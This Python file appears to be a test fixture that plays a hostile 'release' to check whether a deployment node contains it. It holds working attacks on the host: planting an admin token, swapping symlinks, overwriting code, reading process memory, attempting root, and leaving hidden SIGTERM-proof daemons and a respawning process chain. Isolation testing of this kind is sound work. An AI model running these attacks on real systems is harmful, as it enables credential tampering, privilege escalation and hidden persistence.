"""A release that attacks the node that runs it, and answers as if it were well. Python's own library only.

The file `attacks` beside it names what to try, and its data directory gets `attacks.json`: what worked. `daemon` leaves
a process behind that is hard to find: forked twice, a session of its own, an empty environment, deaf to SIGTERM.
`orphans` first kills its own keeper. It runs attacks only against the paths and processes that it was told of.
"""

import http.server
import json
import os
import pathlib
import signal
import sqlite3
import sys
import time

DATA = pathlib.Path(os.environ["ASHAT_RELEASE"]).parent.parent
OWN = pathlib.Path(os.environ["RAOS_DATA"])
TOKEN = {"id": "evil", "name": "evil", "scopes": ["admin"], "created": "2026-01-01T00:00:00Z"}


def keeper() -> int:
    return os.getppid()


def node() -> int:
    return int(pathlib.Path(f"/proc/{keeper()}/stat").read_text().rpartition(") ")[2].split()[1])


def add_token() -> None:
    path = DATA / "tokens.json"
    content = json.loads(path.read_text())
    content["tokens"].append({**TOKEN, "sha256": os.environ["EVIL_SHA256"]})
    path.write_text(json.dumps(content))


def replace_tokens() -> None:
    own = OWN / "tokens.json"
    own.write_text(json.dumps({"tokens": [{**TOKEN, "sha256": os.environ["EVIL_SHA256"]}]}))
    os.replace(own, DATA / "tokens.json")


def read_each() -> list[str]:
    found = []
    for name in ("tokens.json", "node.db", "node.db-wal", "node.lock", "app.log", "node.json"):
        try:
            (DATA / name).read_bytes()
            found.append(name)
        except OSError:
            continue
    for name in ("store", "journal", "audit", ".", "releases"):
        try:
            os.listdir(DATA / name)
            found.append(name)
        except OSError:
            continue
    return found


def write_store() -> None:
    for directory in ("store", "store/objects", "releases", "."):
        try:
            (DATA / directory / "planted").write_text("x")
            return
        except OSError:
            continue
    raise PermissionError


def link_elsewhere() -> None:
    os.symlink("/", OWN / "link")
    os.replace(OWN / "link", DATA / "current")


def change_release() -> None:
    (pathlib.Path(os.environ["ASHAT_RELEASE"]) / "app.py").write_text("pass")


def signal_them() -> None:
    for pid in (keeper(), node()):
        os.kill(pid, signal.SIGCONT)


def read_memory() -> None:
    for name in ("environ", "mem", "fd/0"):
        with open(f"/proc/{node()}/{name}", "rb"):
            return


def become_root() -> None:
    os.setgroups([0])
    os.setuid(0)


ATTACKS = {
    "add_token": add_token,
    "replace_tokens": replace_tokens,
    "write_store": write_store,
    "link_elsewhere": link_elsewhere,
    "change_release": change_release,
    "signal_them": signal_them,
    "read_memory": read_memory,
    "become_root": become_root,
}


def leave_a_daemon() -> None:
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.chdir("/")
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.write(writing, str(os.getpid()).encode())
            os.execve(sys.executable, [sys.executable, "-I", "-S", "-c", "import time; time.sleep(600)"], {})
        os._exit(0)
    os.wait()
    with open(OWN / "daemons", "a") as file:
        file.write(os.read(reading, 20).decode() + "\n")


def run_away() -> None:
    """A process that is always another one: each starts the next, in a session of its own, and ends."""
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            if os.fork():
                os._exit(0)
            os.setsid()
            (OWN / "runner").write_text(str(os.getpid()))


def make_database() -> None:
    database = sqlite3.connect(OWN / "raos.db")
    database.execute("PRAGMA journal_mode=WAL")
    with database:
        database.execute("CREATE TABLE IF NOT EXISTS t (x)")
    database.close()


def plant_links() -> None:
    """Have whoever looks at this database look at the node's own record, and map its tokens as shared memory."""
    for name, target in (("raos.db", "node.db"), ("raos.db-shm", "tokens.json")):
        (OWN / name).unlink(missing_ok=True)
        (OWN / name).symlink_to(DATA / target)


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        return


def main() -> None:
    wanted = pathlib.Path(__file__).with_name("attacks").read_text().split()
    worked: dict[str, object] = {
        "read": read_each() if "read" in wanted else [],
        "uid": os.getuid(),
        "env": [*os.environ],
    }
    for name, attack in ATTACKS.items():
        if name in wanted:
            try:
                attack()
                worked[name] = True
            except OSError:
                worked[name] = False
    if "database" in wanted:
        make_database()
    if "links" in wanted:
        plant_links()
    if "runner" in wanted:
        run_away()
    if "daemon" in wanted:
        leave_a_daemon()
    (OWN / "attacks.json").write_text(json.dumps(worked))
    if "orphans" in wanted:
        os.kill(keeper(), signal.SIGKILL)
        time.sleep(600)
    http.server.ThreadingHTTPServer(("127.0.0.1", int(os.environ["RAOS_PORT"])), Handler).serve_forever()


if __name__ == "__main__":
    main()
